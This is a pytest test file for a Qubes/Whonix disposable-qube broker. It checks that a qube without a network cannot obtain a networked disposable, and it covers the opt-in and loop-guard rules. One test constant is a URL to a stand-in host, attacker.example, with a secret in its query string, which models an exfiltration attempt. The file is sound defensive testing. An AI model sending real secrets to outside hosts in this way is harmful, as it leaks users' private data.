"""A request never gives the caller a network path it does not already have
(DESIGN.md, "No new network"): the real service executables, qrexec's
environment, real pipes, the simulated Qubes. `vault` has no netvm."""

from __future__ import annotations

import pytest

from tests.dom0.test_links_apps import launched
from tests.dom0.test_open_service import CREATE, audit_line, methods
from whonix_open.contract import SERVICE_APP, SERVICE_OPEN, SERVICE_URL, SERVICE_VIEW, Exit
from whonix_open.dom0.admission import OPT_IN_FEATURE
from whonix_open.dom0.disposable import CONTAINED_TAG

URL = b"https://attacker.example/?secret=the-vault-s-secret\n"
FILE = (SERVICE_OPEN, "tor")
# (service, argument, what the caller sends) with a network
NETWORKED = [(SERVICE_OPEN, "tor"), (SERVICE_VIEW, "tor"), (SERVICE_URL, "tor"),
             (SERVICE_APP, "torbrowser+tor"), (SERVICE_APP, "terminal+tor")]
GETALL = "admin.vm.property.GetAll"
FEATURE_GET = "admin.vm.feature.Get"


def _data(service: str) -> bytes:
    from tests.dom0.conftest import header

    if service == SERVICE_URL:
        return URL
    if service == SERVICE_APP:
        return b"\n"
    return header("secret.odt") + b"the vault's secret"


def _run(broker, service: str, arg: str, caller: str = "vault"):
    return broker.run(_data(service), service=service, arg=arg, caller=caller)


@pytest.mark.parametrize(("service", "arg"), NETWORKED)
def test_a_caller_without_a_network_gets_no_networked_disposable(broker, sim, service, arg):
    """The exfiltration case of issue 16: nothing from vault reaches a
    disposable with a network; dom0 asks qubesd two things and creates nothing."""
    assert sim.qube("vault")["netvm"] is None
    r = _run(broker, service, arg)
    assert r.code == Exit.NO_NEW_NETWORK == 79, r.err
    assert [(c["method"], c["dest"]) for c in sim.calls()] == [
        (GETALL, "vault"), (FEATURE_GET, "vault")]
    assert sim.disposables() == [] and sim.received() == [] and launched(sim) == []
    assert f"feature {OPT_IN_FEATURE} is not set on vault" in r.err
    assert "exit=79" in audit_line(r.err)
    assert b"secret" not in r.err.encode()  # dom0 never reads the stream


@pytest.mark.parametrize(("service", "arg"), [(SERVICE_OPEN, "offline"),
                                              (SERVICE_VIEW, "offline"),
                                              (SERVICE_APP, "terminal+offline")])
def test_it_still_gets_offline_disposables(broker, sim, service, arg):
    r = _run(broker, service, arg)
    assert r.code == Exit.OK, r.err
    (relayed,) = sim.services()
    assert relayed["netvm"] is None
    assert FEATURE_GET not in methods(sim)  # nothing to opt into: no extra call
    assert "network=offline" in audit_line(r.err)


def test_a_link_in_the_offline_profile_stays_76(broker, sim):
    """Checked before any Admin API call, for every caller."""
    r = _run(broker, SERVICE_URL, "offline")
    assert r.code == Exit.LINK_NEEDS_NETWORK
    assert sim.calls() == []


@pytest.mark.parametrize("value", ["1", "true", "yes"])
@pytest.mark.parametrize(("service", "arg"), [(SERVICE_URL, "tor"), FILE])
def test_the_administrator_may_opt_the_qube_in(broker, sim, service, arg, value):
    sim.set_feature("vault", OPT_IN_FEATURE, value)
    r = _run(broker, service, arg)
    assert r.code == Exit.OK, r.err
    assert "network=sys-whonix" in audit_line(r.err)
    if service == SERVICE_URL:
        assert launched(sim)[0]["url"] == URL.decode().strip()


def test_opting_in_costs_exactly_one_call_more(broker, sim):
    """Callers with a network pay nothing for the rule; an opted-in caller
    without one pays one admin.vm.feature.Get on itself."""
    assert broker.open_file(caller="personal").code == Exit.OK
    networked = methods(sim)
    sim.set_feature("vault", OPT_IN_FEATURE, "1")
    before = len(sim.calls())
    assert broker.open_file(caller="vault").code == Exit.OK
    opted_in = sim.calls()[before:]
    assert [c["method"] for c in opted_in] == [networked[0], FEATURE_GET, *networked[1:]]
    assert opted_in[1]["dest"] == "vault" and opted_in[1]["arg"] == OPT_IN_FEATURE


@pytest.mark.parametrize("value", ["", "0", "false", "no", "off"])
def test_a_false_feature_is_no_opt_in(broker, sim, value):
    sim.set_feature("vault", OPT_IN_FEATURE, value)
    assert _run(broker, *FILE).code == Exit.NO_NEW_NETWORK
    assert CREATE not in methods(sim)


def test_the_feature_means_nothing_for_a_caller_with_a_network(broker, sim):
    sim.set_feature("personal", OPT_IN_FEATURE, "1")
    r = _run(broker, *FILE, caller="personal")
    assert r.code == Exit.OK and FEATURE_GET not in methods(sim)


def test_a_qube_that_loses_its_netvm_loses_the_networked_profiles(broker, sim):
    assert _run(broker, *FILE, caller="personal").code == Exit.OK
    sim.set_property("personal", "netvm", None)
    assert _run(broker, *FILE, caller="personal").code == Exit.NO_NEW_NETWORK


def test_clearnet_and_whonix_callers_keep_tor(broker, sim):
    """A clearnet qube already reaches the internet: a Tor disposable gives
    it no path it lacks (DESIGN.md says why this is the default)."""
    for caller in ("personal", "anon-whonix"):
        assert _run(broker, SERVICE_URL, "tor", caller=caller).code == Exit.OK


def _disposable_caller(sim, name: str, netvm: str, tags: list[str], features=None) -> None:
    sim.add_qube(name, klass="DispVM", template="whonix-workstation-18-dvm", netvm=netvm,
                 auto_cleanup=True, power_state="Running", tags=tags, features=features or {})


def test_an_offline_disposable_of_this_service_is_still_refused_with_72(broker, sim):
    """The loop guard decides first: the broker's own disposables get 72,
    whatever their network."""
    _disposable_caller(sim, "disp-offline", "", ["anon-vm", "created-by-dom0", CONTAINED_TAG])
    for service, arg in NETWORKED:
        assert _run(broker, service, arg, caller="disp-offline").code == Exit.LOOP


def test_a_networkless_disposable_carries_its_templates_opt_in(broker, sim):
    """qubesd copies a DVM template's features into its disposables
    (qubes/vm/dispvm.py), so an opted-in template opts its disposables in."""
    _disposable_caller(sim, "disp-vault", "", ["created-by-dom0"])
    assert _run(broker, *FILE, caller="disp-vault").code == Exit.NO_NEW_NETWORK
    sim.set_feature("disp-vault", OPT_IN_FEATURE, "1")
    assert _run(broker, *FILE, caller="disp-vault").code == Exit.OK
